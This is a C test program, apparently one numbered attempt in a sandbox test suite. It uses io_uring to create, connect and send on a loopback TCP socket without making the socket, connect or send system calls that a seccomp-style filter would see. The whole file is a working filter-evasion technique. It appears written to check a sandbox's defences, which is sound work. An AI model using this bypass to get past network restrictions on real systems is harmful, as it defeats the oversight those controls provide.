/* net_uring PORT TEXT - lets an io_uring make the socket, connect it and send: none of the three is a system call that a filter sees. ATTACKS 72. */
#include "../attempt.h"

#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/socket.h>

struct ring { int fd; char *queues; struct io_uring_sqe *entries; struct io_uring_params at; };

static unsigned *field(const struct ring *ring, unsigned offset)
{
    return (unsigned *)(void *)(ring->queues + offset);
}

static bool ring_open(struct ring *ring)
{
    memset(ring, 0, sizeof *ring);
    ring->fd = (int)syscall(SYS_io_uring_setup, 4, &ring->at);
    note("io_uring_setup", ring->fd);
    if (ring->fd < 0) {
        return false;
    }
    void *queues = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, (off_t)IORING_OFF_SQ_RING);
    void *entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, (off_t)IORING_OFF_SQES);
    if (queues == MAP_FAILED || entries == MAP_FAILED) {
        note("mmap of the ring", -1);
        return false;
    }
    ring->queues = queues;
    ring->entries = entries;
    return true;
}

/* Submits one entry and waits for its result. */
static int ring_do(struct ring *ring, const char *what, const struct io_uring_sqe *entry)
{
    unsigned tail = *field(ring, ring->at.sq_off.tail), mask = *field(ring, ring->at.sq_off.ring_mask);

    ring->entries[tail & mask] = *entry;
    field(ring, ring->at.sq_off.array)[tail & mask] = tail & mask;
    __atomic_store_n(field(ring, ring->at.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        note("io_uring_enter", -1);
        return -1;
    }
    unsigned head = *field(ring, ring->at.cq_off.head), done_mask = *field(ring, ring->at.cq_off.ring_mask);
    struct io_uring_cqe done;
    memcpy(&done, ring->queues + ring->at.cq_off.cqes + (head & done_mask) * sizeof done, sizeof done);
    __atomic_store_n(field(ring, ring->at.cq_off.head), head + 1, __ATOMIC_RELEASE);
    errno = done.res < 0 ? -done.res : 0;
    note(what, done.res);
    return done.res;
}

int main(int argc, char **argv)
{
    const char *text = argument(argc, argv, 2);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(port_of(argument(argc, argv, 1))),
                              .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    struct ring ring;

    attempt_runs();
    if (!ring_open(&ring)) {
        return 0;
    }
    struct io_uring_sqe make = { .opcode = 45 /* IORING_OP_SOCKET */, .fd = AF_INET, .off = SOCK_STREAM };
    int fd = ring_do(&ring, "ring socket", &make);
    struct io_uring_sqe reach = { .opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uint64_t)(uintptr_t)&to, .off = sizeof to };
    (void)ring_do(&ring, "ring connect", &reach);
    struct io_uring_sqe speak = { .opcode = IORING_OP_SEND, .fd = fd, .addr = (uint64_t)(uintptr_t)text, .len = (uint32_t)strlen(text) };
    (void)ring_do(&ring, "ring send", &speak);
    return 0;
}
